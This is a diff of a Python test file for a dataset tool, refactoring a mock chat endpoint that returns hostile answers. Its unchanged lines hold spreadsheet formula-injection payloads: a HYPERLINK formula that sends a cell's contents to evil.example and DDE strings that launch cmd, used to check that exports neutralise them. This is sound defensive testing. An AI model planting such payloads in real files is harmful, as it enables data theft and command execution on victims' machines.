@@ -4,7 +4,6 @@
 import csv
 import io
 import json
-from http.server import BaseHTTPRequestHandler
 
 import openai
 
@@ -12,7 +11,7 @@ from core.dataset.cells import save_csv
 from core.dataset.io import read_rows
 from core.dataset.model import Format, Row
 from core.evaluate import cases_from_rows, outcomes_csv, run_cases, save_outcomes
-from tests.servers import serve
+from tests.servers import QuietHandler, serve
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+2"]
@@ -35,24 +34,18 @@ def test_dataset_cells_from_a_file_are_exported_without_formulas(tmp_path):
     assert cells == ["'" + value for value in FORMULAS] + NUMBERS + ["'=", "plain - text"]
 
 
-def hostile_model(answers: list[str]) -> type[BaseHTTPRequestHandler]:
+def hostile_model(answers: list[str]) -> type[QuietHandler]:
     """A chat endpoint whose answers are formulas, one per question, in order of the question's number."""
 
-    class Handler(BaseHTTPRequestHandler):
+    class Handler(QuietHandler):
         def do_POST(self) -> None:
             body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
             question = body["messages"][-1]["content"]
             data = json.dumps({"id": "c", "object": "chat.completion", "created": 0, "model": body["model"],
                                "choices": [{"index": 0, "finish_reason": "stop", "message": {
                                    "role": "assistant", "content": answers[int(question.split()[-1])]}}]}).encode()
-            self.send_response(200)
-            self.send_header("Content-Type", "application/json")
-            self.send_header("Content-Length", str(len(data)))
-            self.end_headers()
-            self.wfile.write(data)
+            self.reply(200, data)
 
-        def log_message(self, *args: object) -> None:
-            pass
 
     return Handler
 
